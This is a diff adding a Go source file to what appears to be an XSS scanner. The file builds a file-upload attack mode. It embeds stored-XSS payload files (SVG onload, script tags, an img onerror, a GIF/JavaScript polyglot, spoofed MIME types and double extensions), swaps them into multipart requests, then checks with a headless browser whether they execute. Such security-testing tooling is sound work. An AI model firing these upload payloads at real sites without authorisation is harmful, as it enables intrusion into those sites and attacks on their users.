@@ -0,0 +1,242 @@
+package services
+
+import (
+	"fmt"
+	"strings"
+	"time"
+	"xss/utils"
+
+	"github.com/playwright-community/playwright-go"
+)
+
+// uploadFile is a generated payload file, ### is replaced by the scan UUID
+type uploadFile struct {
+	Variant     string
+	Extension   string
+	ContentType string
+	Content     string
+}
+
+var uploadFiles = []uploadFile{
+	{"svg", "svg", "image/svg+xml", `<?xml version="1.0" standalone="no"?>
+<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1" onload="alert(###)"><script type="text/javascript">alert(###)</script></svg>`},
+	{"html", "html", "text/html", `<!DOCTYPE html><html><body><img src=x onerror="alert(###)"><script>alert(###)</script></body></html>`},
+	{"xml-xhtml", "xml", "application/xml", `<?xml version="1.0"?>
+<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(###)</script></body></html>`},
+	// a valid GIF header that is also a JavaScript expression, for pages that load uploads as scripts
+	{"gif-js-polyglot", "gif", "image/gif", "GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=0;alert(###);/*\x00\x00\x00\x00\x00;*/"},
+	{"spoofed-type", "html", "image/png", `<!DOCTYPE html><html><body><script>alert(###)</script></body></html>`},
+	{"spoofed-extension", "png", "image/png", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(###)"/>`},
+	{"double-extension", "png.html", "image/png", `<!DOCTYPE html><html><body><script>alert(###)</script></body></html>`},
+}
+
+type UploadService struct {
+	argService     *ArgsService
+	bodyService    *BodyService
+	monitorService *MonitorService
+	reportService  *ReportService
+}
+
+var uploadServiceInstance *UploadService = nil
+
+// Singleton instance of UploadService
+func GetUploadService() (*UploadService, error) {
+	if uploadServiceInstance == nil {
+		var argService *ArgsService
+		var bodyService *BodyService
+		var monitorService *MonitorService
+		var reportService *ReportService
+		var err error
+
+		if argService, err = GetArgsService(); err != nil {
+			return nil, err
+		}
+
+		if bodyService, err = GetBodyService(); err != nil {
+			return nil, err
+		}
+
+		if monitorService, err = GetMonitorService(); err != nil {
+			return nil, err
+		}
+
+		if reportService, err = GetReportService(); err != nil {
+			return nil, err
+		}
+
+		uploadServiceInstance = &UploadService{
+			argService:     argService,
+			bodyService:    bodyService,
+			monitorService: monitorService,
+			reportService:  reportService,
+		}
+	}
+
+	return uploadServiceInstance, nil
+}
+
+// Enabled reports whether the upload mode is on
+func (us *UploadService) Enabled() bool {
+	upload, err := us.argService.Get(ArgKeys.Upload)
+	return err == nil && upload.(bool)
+}
+
+// FileName names the uploaded file after the scan and its variant so the retrieval URL can be built from it.
+// Only the tail of the UUID is used, stored mode swaps the full UUID for a canary in the whole request.
+func (us *UploadService) FileName(file uploadFile, uuid string) string {
+	return fmt.Sprintf("xss%s-%s.%s", uuid[len(uuid)-8:], file.Variant, file.Extension)
+}
+
+// CombineUploadWithPayload replaces the file of every file part of a multipart request with each generated payload file
+func (us *UploadService) CombineUploadWithPayload(request map[string]string, uuid string) []map[string]string {
+	_, contentType := HeaderValue(request, "Content-Type")
+
+	parts, err := us.bodyService.ParseMultipart(request["_ BODY"], contentType)
+	if err != nil {
+		utils.Log.Warn("Upload mode needs a multipart request:", err)
+		return nil
+	}
+
+	var combinedRequests []map[string]string
+	for ix, part := range parts {
+		if part.FileName == "" {
+			continue
+		}
+
+		for _, file := range uploadFiles {
+			injected := append([]formPart{}, parts...)
+			injected[ix].FileName = us.FileName(file, uuid)
+			injected[ix].ContentType = file.ContentType
+			injected[ix].Content = []byte(strings.ReplaceAll(file.Content, "###", uuid))
+
+			body, contentType, err := us.bodyService.BuildMultipart(injected)
+			if err != nil {
+				utils.Log.Warn("Error building multipart body:", err)
+				continue
+			}
+
+			newRequest := us.bodyService.WithBody(request, body, "upload", part.Name)
+			key, _ := HeaderValue(newRequest, "Content-Type")
+			newRequest[key] = contentType
+			newRequest["_ VARIANT"] = file.Variant
+			newRequest["_ FILENAME"] = injected[ix].FileName
+			combinedRequests = append(combinedRequests, newRequest)
+		}
+	}
+
+	if len(combinedRequests) == 0 {
+		utils.Log.Warn("Upload mode found no file part in the request")
+	}
+
+	return combinedRequests
+}
+
+// Retrieve browses to every uploaded file through the `{filename}` retrieval URL pattern, checking whether it
+// executes and how it is served
+func (us *UploadService) Retrieve(ctx playwright.BrowserContext, requests []map[string]string, uuid string) error {
+	options := us.argService.GetAll()
+
+	pattern, _ := options[ArgKeys.Retrieve].(string)
+	if pattern == "" {
+		return nil
+	}
+
+	utils.Log.Info("Running UploadService")
+
+	found := 0
+	for _, request := range requests {
+		fileName := request["_ FILENAME"]
+		if fileName == "" {
+			continue
+		}
+
+		fileUrl := strings.ReplaceAll(pattern, "{filename}", fileName)
+		hits, headers, err := us.RetrievePage(ctx, fileUrl, uuid[:10])
+		if err != nil {
+			utils.Log.Error(fmt.Sprintf("Error retrieving %s: %s", fileUrl, err))
+			continue
+		}
+
+		servedAs := fmt.Sprintf("Content-Type: %s, Content-Disposition: %s", headers["content-type"], headers["content-disposition"])
+		if len(hits) == 0 {
+			if us.IsInline(headers) {
+				utils.Log.Warn(fmt.Sprintf("Uploaded %s served inline without executing: %s (%s)", request["_ VARIANT"], fileUrl, servedAs))
+			} else {
+				utils.Log.Info(fmt.Sprintf("Uploaded %s served safely: %s (%s)", request["_ VARIANT"], fileUrl, servedAs))
+			}
+			continue
+		}
+
+		utils.Log.Success(fmt.Sprintf("Upload XSS found: %s executes at %s (%s)", request["_ VARIANT"], fileUrl, servedAs))
+		us.reportService.AddFinding(Finding{
+			Target:   request["_ BODY"],
+			Location: request["_ LOCATION"],
+			Param:    request["_ PARAM"],
+			Variant:  request["_ VARIANT"] + ", " + servedAs,
+			Trigger:  hits[0].Kind,
+			Page:     fileUrl,
+		})
+		found++
+	}
+
+	utils.Log.Info(fmt.Sprintf("Upload retrieval done, executing files: [%d]", found))
+
+	if options[ArgKeys.Report].(string) != "" {
+		return us.reportService.SaveReport(options[ArgKeys.Report].(string))
+	}
+	return nil
+}
+
+// RetrievePage opens an uploaded file and returns the hits carrying the marker and the response headers
+func (us *UploadService) RetrievePage(ctx playwright.BrowserContext, fileUrl string, marker string) ([]MonitorHit, map[string]string, error) {
+	options := us.argService.GetAll()
+	timeout := float64(options[ArgKeys.Timeout].(int))
+
+	page, err := ctx.NewPage()
+	if err != nil {
+		return nil, nil, err
+	}
+	defer page.Close()
+
+	monitor, err := us.monitorService.Attach(page, marker)
+	if err != nil {
+		return nil, nil, err
+	}
+	defer us.monitorService.Detach(monitor)
+
+	response, err := page.Goto(fileUrl, playwright.PageGotoOptions{Timeout: playwright.Float(timeout)})
+	if err != nil {
+		return nil, nil, err
+	}
+
+	headers := map[string]string{}
+	if response != nil {
+		if headers, err = response.AllHeaders(); err != nil {
+			return nil, nil, err
+		}
+	}
+
+	var hits []MonitorHit
+	for _, hit := range us.monitorService.Wait(monitor, time.Duration(1000)*time.Millisecond) {
+		if strings.Contains(hit.Value, marker) {
+			hits = append(hits, hit)
+		}
+	}
+
+	return hits, headers, nil
+}
+
+// IsInline reports whether a file is rendered by the browser as an active document rather than downloaded
+func (us *UploadService) IsInline(headers map[string]string) bool {
+	if strings.HasPrefix(strings.ToLower(headers["content-disposition"]), "attachment") {
+		return false
+	}
+
+	contentType := strings.ToLower(headers["content-type"])
+	for _, active := range []string{"html", "svg", "xml"} {
+		if strings.Contains(contentType, active) {
+			return true
+		}
+	}
+	return false
+}